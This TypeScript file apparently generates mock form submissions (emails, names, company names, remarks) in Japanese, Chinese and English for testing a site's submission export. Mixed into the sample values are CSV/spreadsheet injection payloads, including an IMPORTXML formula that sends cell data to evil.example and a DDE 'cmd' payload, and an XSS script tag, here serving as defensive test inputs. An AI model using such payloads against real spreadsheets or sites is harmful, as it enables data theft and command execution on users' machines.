/** What users sent with the form of an experience, some of it meant to do harm where it is pasted. */
import type { DayRange } from "../../question/dates";
import type { Question } from "../../question/question";
import { isoOfDay } from "../../site/calendar";
import { type Experience, submittedBit } from "../../site/experiences";
import { hashOf } from "../../site/random";
import { forEachImpression } from "./impressionSums";

const remarks = [
  "",
  "とても使いやすいです。",
  '=IMPORTXML("http://evil.example/?"&A1,"//a")',
  "+1",
  "@x",
  "-2+3",
  "<script>alert('x')</script>",
  "値段が、\n少し高い",
  "🎉👩‍💻 great!",
  "很好用，谢谢",
  `very long ${"text ".repeat(400)}`,
  '"quoted", with; both',
  "\t=1+1",
  "'leading apostrophe",
];

const companies = ["株式会社サンプル", "Example Inc.", "", "有限公司", "=cmd|' /C calc'!A0", "<b>Bold & Sons</b>"];
const names = ["山田 太郎", "Anna Weiß", "李 伟", "O'Brien", '=HYPERLINK("http://evil.example")', "佐藤"];
const pictures = ["Option 1", "Option 2", "Option 3", ""];
const choices = ["", "Option 1", "Option 1,Option 2", "オプション 3"];

/** Every seventh address is a trap; the others look like addresses. */
const email = (hash: number) => (hash % 7 === 3 ? remarks[2 + (hash % 5)]! : `user${hash % 10_000}@example.com`);

const pick = (list: readonly string[]) => (hash: number) => list[hash % list.length]!;

const answersByField: Readonly<Record<string, (hash: number) => string>> = {
  Email: email,
  "Picture choice": pick(pictures),
  "choice-test2": pick(choices),
  お名前: pick(names),
  会社名: pick(companies),
  ご意見: pick(remarks),
};

function timeText(day: number, secondOfDay: number): string {
  const clock = [secondOfDay / 3600, (secondOfDay % 3600) / 60, secondOfDay % 60];
  const digits = clock.map((part) => String(Math.floor(part)).padStart(2, "0"));
  return `${isoOfDay(day).replaceAll("-", "/")} ${digits.join(":")}`;
}

/** The submissions to one version, the latest first. */
export function submissions(question: Question, range: DayRange, experience: Experience, versionId: string) {
  const rows: Record<string, string>[] = [];
  forEachImpression(question, range, experience, (day, visit, at, version) => {
    if ((day.impressionActions[at]! & submittedBit) === 0) return;
    if (experience.versions[version]!.id !== versionId) return;
    const answers = experience.formFields.map((field, index) => {
      const hash = hashOf(day.visitor[visit]!, day.secondOfDay[visit]! + index * 100_003);
      return [field, answersByField[field]!(hash)];
    });
    rows.push({ submittedAt: timeText(day.day, day.secondOfDay[visit]!), ...Object.fromEntries(answers) });
  });
  return { columns: ["submittedAt", ...experience.formFields], rows: rows.reverse() };
}
